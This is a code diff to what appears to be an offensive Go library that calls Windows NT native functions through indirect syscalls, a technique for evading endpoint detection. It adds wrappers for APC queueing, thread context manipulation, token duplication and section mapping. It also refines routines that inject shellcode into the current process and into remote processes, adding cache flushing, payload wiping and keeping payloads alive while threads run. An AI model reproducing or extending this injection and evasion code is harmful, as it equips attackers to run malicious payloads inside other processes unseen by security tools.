@@ -187,6 +187,18 @@ func NtAllocateVirtualMemoryIndirect(processHandle uintptr, baseAddress *uintptr
 		protect)
 }
 
+// NtAllocateVirtualMemoryEx allocates memory with extended parameters (Windows 10 1803+)
+func NtAllocateVirtualMemoryExIndirect(processHandle uintptr, baseAddress *uintptr, regionSize *uintptr, allocationType uintptr, pageProtection uintptr, extendedParameters unsafe.Pointer, extendedParameterCount uintptr) (uintptr, error) {
+	return IndirectSyscall("NtAllocateVirtualMemoryEx",
+		processHandle,
+		uintptr(unsafe.Pointer(baseAddress)),
+		uintptr(unsafe.Pointer(regionSize)),
+		allocationType,
+		pageProtection,
+		uintptr(extendedParameters),
+		extendedParameterCount)
+}
+
 // NtWriteVirtualMemory writes to memory in a process
 func NtWriteVirtualMemoryIndirect(processHandle uintptr, baseAddress uintptr, buffer unsafe.Pointer, size uintptr, bytesWritten *uintptr) (uintptr, error) {
 	debug.Printfln("WINAPI", "NtWriteVirtualMemory called\n")
@@ -331,6 +343,47 @@ func NtReadFileIndirect(fileHandle uintptr, event uintptr, apcRoutine uintptr, a
 		uintptr(unsafe.Pointer(key)))
 }
 
+// NtCreateNamedPipeFile creates the server end of a named pipe
+func NtCreateNamedPipeFileIndirect(fileHandle *uintptr, desiredAccess uintptr, objectAttributes uintptr, ioStatusBlock uintptr, shareAccess uintptr, createDisposition uintptr, createOptions uintptr, namedPipeType uintptr, readMode uintptr, completionMode uintptr, maximumInstances uintptr, inboundQuota uintptr, outboundQuota uintptr, defaultTimeout *uint64) (uintptr, error) {
+	return IndirectSyscall("NtCreateNamedPipeFile",
+		uintptr(unsafe.Pointer(fileHandle)),
+		desiredAccess,
+		objectAttributes,
+		ioStatusBlock,
+		shareAccess,
+		createDisposition,
+		createOptions,
+		namedPipeType,
+		readMode,
+		completionMode,
+		maximumInstances,
+		inboundQuota,
+		outboundQuota,
+		uintptr(unsafe.Pointer(defaultTimeout)))
+}
+
+// NtFsControlFile sends a file system control code to a file or pipe
+func NtFsControlFileIndirect(fileHandle uintptr, event uintptr, apcRoutine uintptr, apcContext uintptr, ioStatusBlock uintptr, fsControlCode uintptr, inputBuffer unsafe.Pointer, inputBufferLength uintptr, outputBuffer unsafe.Pointer, outputBufferLength uintptr) (uintptr, error) {
+	return IndirectSyscall("NtFsControlFile",
+		fileHandle,
+		event,
+		apcRoutine,
+		apcContext,
+		ioStatusBlock,
+		fsControlCode,
+		uintptr(inputBuffer),
+		inputBufferLength,
+		uintptr(outputBuffer),
+		outputBufferLength)
+}
+
+// NtCancelIoFile cancels the pending I/O of the calling thread on a file
+func NtCancelIoFileIndirect(fileHandle uintptr, ioStatusBlock uintptr) (uintptr, error) {
+	return IndirectSyscall("NtCancelIoFile",
+		fileHandle,
+		ioStatusBlock)
+}
+
 // Additional Process Manipulation Functions
 
 // NtTerminateProcess terminates a process
@@ -419,6 +472,74 @@ func NtTerminateThreadIndirect(threadHandle uintptr, exitStatus uintptr) (uintpt
 		exitStatus)
 }
 
+// NtQueueApcThread queues a user-mode APC to a thread
+func NtQueueApcThreadIndirect(threadHandle uintptr, apcRoutine uintptr, arg1 uintptr, arg2 uintptr, arg3 uintptr) (uintptr, error) {
+	return IndirectSyscall("NtQueueApcThread",
+		threadHandle,
+		apcRoutine,
+		arg1,
+		arg2,
+		arg3)
+}
+
+// NtQueueApcThreadEx queues a user-mode APC with a reserve object or QUEUE_USER_APC_* flags
+func NtQueueApcThreadExIndirect(threadHandle uintptr, reserveHandleOrFlags uintptr, apcRoutine uintptr, arg1 uintptr, arg2 uintptr, arg3 uintptr) (uintptr, error) {
+	return IndirectSyscall("NtQueueApcThreadEx",
+		threadHandle,
+		reserveHandleOrFlags,
+		apcRoutine,
+		arg1,
+		arg2,
+		arg3)
+}
+
+// NtAlertThread alerts a thread, waking it from an alertable wait
+func NtAlertThreadIndirect(threadHandle uintptr) (uintptr, error) {
+	return IndirectSyscall("NtAlertThread", threadHandle)
+}
+
+// NtAlertResumeThread alerts a suspended thread and resumes it
+func NtAlertResumeThreadIndirect(threadHandle uintptr, previousSuspendCount *uintptr) (uintptr, error) {
+	return IndirectSyscall("NtAlertResumeThread",
+		threadHandle,
+		uintptr(unsafe.Pointer(previousSuspendCount)))
+}
+
+// NtTestAlert delivers pending user-mode APCs to the calling thread
+func NtTestAlertIndirect() (uintptr, error) {
+	return IndirectSyscall("NtTestAlert")
+}
+
+// NtGetContextThread retrieves the register context of a thread (ctx.ContextFlags selects what)
+func NtGetContextThreadIndirect(threadHandle uintptr, ctx *CONTEXT) (uintptr, error) {
+	return IndirectSyscall("NtGetContextThread",
+		threadHandle,
+		uintptr(unsafe.Pointer(ctx)))
+}
+
+// NtSetContextThread sets the register context of a thread (ctx.ContextFlags selects what)
+func NtSetContextThreadIndirect(threadHandle uintptr, ctx *CONTEXT) (uintptr, error) {
+	return IndirectSyscall("NtSetContextThread",
+		threadHandle,
+		uintptr(unsafe.Pointer(ctx)))
+}
+
+// NtCreateUserProcess creates a process and its initial thread from an image described by the attribute list
+func NtCreateUserProcessIndirect(processHandle *uintptr, threadHandle *uintptr, processDesiredAccess uintptr, threadDesiredAccess uintptr, processObjectAttributes uintptr, threadObjectAttributes uintptr, processFlags uintptr, threadFlags uintptr, processParameters uintptr, createInfo *PS_CREATE_INFO, attributeList uintptr) (uintptr, error) {
+	return IndirectSyscall("NtCreateUserProcess",
+		uintptr(unsafe.Pointer(processHandle)),
+		uintptr(unsafe.Pointer(threadHandle)),
+		processDesiredAccess,
+		threadDesiredAccess,
+		processObjectAttributes,
+		threadObjectAttributes,
+		processFlags,
+		threadFlags,
+		processParameters,
+		uintptr(unsafe.Pointer(createInfo)),
+		attributeList)
+}
+
 // Memory and Section Functions
 
 // NtCreateSection creates a section object
@@ -433,6 +554,14 @@ func NtCreateSectionIndirect(sectionHandle *uintptr, desiredAccess uintptr, obje
 		fileHandle)
 }
 
+// NtOpenSection opens an existing named section object
+func NtOpenSectionIndirect(sectionHandle *uintptr, desiredAccess uintptr, objectAttributes uintptr) (uintptr, error) {
+	return IndirectSyscall("NtOpenSection",
+		uintptr(unsafe.Pointer(sectionHandle)),
+		desiredAccess,
+		objectAttributes)
+}
+
 // NtMapViewOfSection maps a view of a section
 func NtMapViewOfSectionIndirect(sectionHandle uintptr, processHandle uintptr, baseAddress *uintptr, zeroBits uintptr, commitSize uintptr, sectionOffset *uint64, viewSize *uintptr, inheritDisposition uintptr, allocationType uintptr, win32Protect uintptr) (uintptr, error) {
 	return IndirectSyscall("NtMapViewOfSection",
@@ -448,6 +577,20 @@ func NtMapViewOfSectionIndirect(sectionHandle uintptr, processHandle uintptr, ba
 		win32Protect)
 }
 
+// NtMapViewOfSectionEx maps a view of a section with extended parameters (Windows 10 1803+)
+func NtMapViewOfSectionExIndirect(sectionHandle uintptr, processHandle uintptr, baseAddress *uintptr, sectionOffset *uint64, viewSize *uintptr, allocationType uintptr, win32Protect uintptr, extendedParameters unsafe.Pointer, extendedParameterCount uintptr) (uintptr, error) {
+	return IndirectSyscall("NtMapViewOfSectionEx",
+		sectionHandle,
+		processHandle,
+		uintptr(unsafe.Pointer(baseAddress)),
+		uintptr(unsafe.Pointer(sectionOffset)),
+		uintptr(unsafe.Pointer(viewSize)),
+		allocationType,
+		win32Protect,
+		uintptr(extendedParameters),
+		extendedParameterCount)
+}
+
 // NtUnmapViewOfSection unmaps a view of a section
 func NtUnmapViewOfSectionIndirect(processHandle uintptr, baseAddress uintptr) (uintptr, error) {
 	return IndirectSyscall("NtUnmapViewOfSection",
@@ -455,6 +598,14 @@ func NtUnmapViewOfSectionIndirect(processHandle uintptr, baseAddress uintptr) (u
 		baseAddress)
 }
 
+// NtUnmapViewOfSectionEx unmaps a view of a section with flags
+func NtUnmapViewOfSectionExIndirect(processHandle uintptr, baseAddress uintptr, flags uintptr) (uintptr, error) {
+	return IndirectSyscall("NtUnmapViewOfSectionEx",
+		processHandle,
+		baseAddress,
+		flags)
+}
+
 // NtFreeVirtualMemory frees virtual memory
 func NtFreeVirtualMemoryIndirect(processHandle uintptr, baseAddress *uintptr, regionSize *uintptr, freeType uintptr) (uintptr, error) {
 	return IndirectSyscall("NtFreeVirtualMemory",
@@ -588,6 +739,46 @@ func NtAdjustPrivilegesTokenIndirect(tokenHandle uintptr, disableAllPrivileges b
 		uintptr(unsafe.Pointer(returnLength)))
 }
 
+// NtDuplicateToken duplicates a token as a primary or impersonation token
+func NtDuplicateTokenIndirect(existingTokenHandle uintptr, desiredAccess uintptr, objectAttributes uintptr, effectiveOnly bool, tokenType uintptr, newTokenHandle *uintptr) (uintptr, error) {
+	effective := uintptr(0)
+	if effectiveOnly {
+		effective = 1
+	}
+	return IndirectSyscall("NtDuplicateToken",
+		existingTokenHandle,
+		desiredAccess,
+		objectAttributes,
+		effective,
+		tokenType,
+		uintptr(unsafe.Pointer(newTokenHandle)))
+}
+
+// NtFilterToken creates a restricted copy of a token
+func NtFilterTokenIndirect(existingTokenHandle uintptr, flags uintptr, sidsToDisable uintptr, privilegesToDelete uintptr, restrictedSids uintptr, newTokenHandle *uintptr) (uintptr, error) {
+	return IndirectSyscall("NtFilterToken",
+		existingTokenHandle,
+		flags,
+		sidsToDisable,
+		privilegesToDelete,
+		restrictedSids,
+		uintptr(unsafe.Pointer(newTokenHandle)))
+}
+
+// NtCreateLowBoxToken creates an AppContainer (lowbox) token from an existing token
+func NtCreateLowBoxTokenIndirect(tokenHandle *uintptr, existingTokenHandle uintptr, desiredAccess uintptr, objectAttributes uintptr, packageSid uintptr, capabilityCount uintptr, capabilities uintptr, handleCount uintptr, handles uintptr) (uintptr, error) {
+	return IndirectSyscall("NtCreateLowBoxToken",
+		uintptr(unsafe.Pointer(tokenHandle)),
+		existingTokenHandle,
+		desiredAccess,
+		objectAttributes,
+		packageSid,
+		capabilityCount,
+		capabilities,
+		handleCount,
+		handles)
+}
+
 // Object and Handle Functions
 
 // NtDuplicateObject duplicates an object handle
@@ -831,6 +1022,14 @@ func NtFlushInstructionCacheIndirect(processHandle uintptr, baseAddress uintptr,
 		size)
 }
 
+// flushInstructionCacheIndirect is the indirect-syscall counterpart of flushInstructionCache
+func flushInstructionCacheIndirect(processHandle uintptr, baseAddress uintptr, size uintptr) {
+	status, err := NtFlushInstructionCacheIndirect(processHandle, baseAddress, size)
+	if err != nil || status != STATUS_SUCCESS {
+		debug.Printfln("WINAPI_INDIRECT", "Warning: NtFlushInstructionCache failed for 0x%X: %v %s\n", baseAddress, err, FormatNTStatus(status))
+	}
+}
+
 // NtSetEventBoostPriority temporarily boosts the priority of waiting threads
 func NtSetEventBoostPriorityIndirect(eventHandle uintptr) (uintptr, error) {
 	return IndirectSyscall("NtSetEventBoostPriority",
@@ -921,7 +1120,7 @@ func NtInjectSelfShellcodeIndirect(shellcode []byte) error {
 	if writeErr != nil || writeStatus != 0 || bytesWritten != uintptr(len(shellcode)) {
 		debug.Printfln("WINAPI_INDIRECT", "Failed to copy to safe memory: %v\n", writeErr)
 		// Cleanup and return original error
-		NtFreeVirtualMemoryIndirect(currentProcess, &sourceAddress, &size, 0x8000)
+		releasePayloadIndirect(sourceAddress, size)
 		return fmt.Errorf("both direct injection and safe memory fallback failed: %v", result)
 	}
 	
@@ -940,9 +1139,10 @@ func NtInjectSelfShellcodeIndirect(shellcode []byte) error {
 	
 	if protectErr != nil || protectStatus != STATUS_SUCCESS {
 		debug.Printfln("WINAPI_INDIRECT", "Failed to change protection on safe memory: %v\n", protectErr)
-		NtFreeVirtualMemoryIndirect(currentProcess, &sourceAddress, &size, 0x8000)
+		releasePayloadIndirect(sourceAddress, size)
 		return fmt.Errorf("safe memory protection failed: %v %s", protectErr, FormatNTStatus(protectStatus))
 	}
+	flushInstructionCacheIndirect(currentProcess, sourceAddress, uintptr(len(shellcode)))
 	
 	// Create thread using the safe memory
 	var hThread uintptr
@@ -962,13 +1162,13 @@ func NtInjectSelfShellcodeIndirect(shellcode []byte) error {
 	
 	if threadErr != nil || threadStatus != STATUS_SUCCESS {
 		debug.Printfln("WINAPI_INDIRECT", "Failed to create thread with safe memory: %v\n", threadErr)
-		NtFreeVirtualMemoryIndirect(currentProcess, &sourceAddress, &size, 0x8000)
+		releasePayloadIndirect(sourceAddress, size)
 		return fmt.Errorf("safe memory thread creation failed: %v %s", threadErr, FormatNTStatus(threadStatus))
 	}
 	
 	// Validate thread handle
 	if hThread == 0 {
-		NtFreeVirtualMemoryIndirect(currentProcess, &sourceAddress, &size, 0x8000)
+		releasePayloadIndirect(sourceAddress, size)
 		return fmt.Errorf("safe memory thread creation returned invalid handle")
 	}
 	
@@ -979,6 +1179,7 @@ func NtInjectSelfShellcodeIndirect(shellcode []byte) error {
 	timeout := TIMEOUT_10_SECONDS
 	
 	waitStatus, err := NtWaitForSingleObjectIndirect(hThread, false, &timeout)
+	finished := err == nil && waitStatus == WAIT_OBJECT_0
 	if err != nil {
 		debug.Printfln("WINAPI_INDIRECT", "Warning: Wait failed: %v\n", err)
 	} else {
@@ -1002,8 +1203,12 @@ func NtInjectSelfShellcodeIndirect(shellcode []byte) error {
 		debug.Printfln("WINAPI_INDIRECT", "Thread handle closed successfully\n")
 	}
 	
-	// Cleanup safe memory
-	NtFreeVirtualMemoryIndirect(currentProcess, &sourceAddress, &size, 0x8000)
+	// Cleanup safe memory; a thread that is still running keeps its payload
+	if finished {
+		releasePayloadIndirect(sourceAddress, size)
+	} else {
+		debug.Printfln("WINAPI_INDIRECT", "Thread still running, leaving payload at 0x%X\n", sourceAddress)
+	}
 	
 	debug.Printfln("WINAPI_INDIRECT", "Safe memory fallback succeeded!\n")
 	return nil
@@ -1041,9 +1246,11 @@ func OriginalNtInjectSelfShellcodeIndirect(payload []byte) error {
 		&bytesWritten,
 	)
 	if err != nil || status != STATUS_SUCCESS {
+		releasePayloadIndirect(baseAddress, size)
 		return fmt.Errorf("write failed: %v %s", err, FormatNTStatus(status))
 	}
 	if bytesWritten != uintptr(len(payload)) {
+		releasePayloadIndirect(baseAddress, size)
 		return fmt.Errorf("incomplete write: %d bytes written, expected %d", bytesWritten, len(payload))
 	}
 	debug.Printfln("WINAPI_INDIRECT", "Wrote %d bytes to self process\n", bytesWritten)
@@ -1058,8 +1265,10 @@ func OriginalNtInjectSelfShellcodeIndirect(payload []byte) error {
 		&oldProtect,
 	)
 	if err != nil || status != STATUS_SUCCESS {
+		releasePayloadIndirect(baseAddress, size)
 		return fmt.Errorf("protect failed: %v %s", err, FormatNTStatus(status))
 	}
+	flushInstructionCacheIndirect(currentProcess, baseAddress, uintptr(len(payload)))
 
 	// Step 4: Create thread using NtCreateThreadEx (true direct syscall)
 	var hThread uintptr
@@ -1082,6 +1291,7 @@ func OriginalNtInjectSelfShellcodeIndirect(payload []byte) error {
 	)
 	
 	if err != nil || status != STATUS_SUCCESS {
+		releasePayloadIndirect(baseAddress, size)
 		return fmt.Errorf("NtCreateThreadEx failed: %v %s", err, FormatNTStatus(status))
 	}
 
@@ -1114,6 +1324,7 @@ func OriginalNtInjectSelfShellcodeIndirect(payload []byte) error {
 	timeout := TIMEOUT_10_SECONDS
 	
 	waitStatus, err := NtWaitForSingleObjectIndirect(hThread, false, &timeout)
+	finished := err == nil && waitStatus == WAIT_OBJECT_0
 	if err != nil {
 		debug.Printfln("WINAPI_INDIRECT", "Warning: Wait failed: %v\n", err)
 	} else {
@@ -1136,8 +1347,26 @@ func OriginalNtInjectSelfShellcodeIndirect(payload []byte) error {
 	} else {
 		debug.Printfln("WINAPI_INDIRECT", "Thread handle closed successfully\n")
 	}
+
+	// A thread that is still running keeps its payload
+	if finished {
+		releasePayloadIndirect(baseAddress, size)
+	}
 	return nil
 }
+
+// releasePayloadIndirect makes a self-injected payload region writable again, wipes it and
+// releases it
+func releasePayloadIndirect(base uintptr, size uintptr) {
+	addr, protectSize := base, size
+	var oldProtect uintptr
+	status, err := NtProtectVirtualMemoryIndirect(CURRENT_PROCESS, &addr, &protectSize, PAGE_READWRITE, &oldProtect)
+	if err == nil && status == STATUS_SUCCESS {
+		WipeMemory(base, size)
+	}
+	freeSize := uintptr(0)
+	NtFreeVirtualMemoryIndirect(CURRENT_PROCESS, &base, &freeSize, MEM_RELEASE)
+}
 // NtInjectRemote injects shellcode into a remote process using direct syscalls ONLY
 // This function follows the proven pattern: allocate RW -> copy -> change to RX -> create thread
 // processHandle: Handle to the target process (must have PROCESS_ALL_ACCESS or appropriate rights)
@@ -1237,6 +1466,8 @@ func NtInjectRemoteIndirect(processHandle uintptr, payload []byte) error {
 	
 	debug.Printfln("WINAPI_INDIRECT", "Changed memory protection to RX\n")
 
+	flushInstructionCacheIndirect(processHandle, remoteBuffer, uintptr(len(payload)))
+
 	// Step 4: Create remote thread using NtCreateThreadEx 
 	var hThread uintptr
 	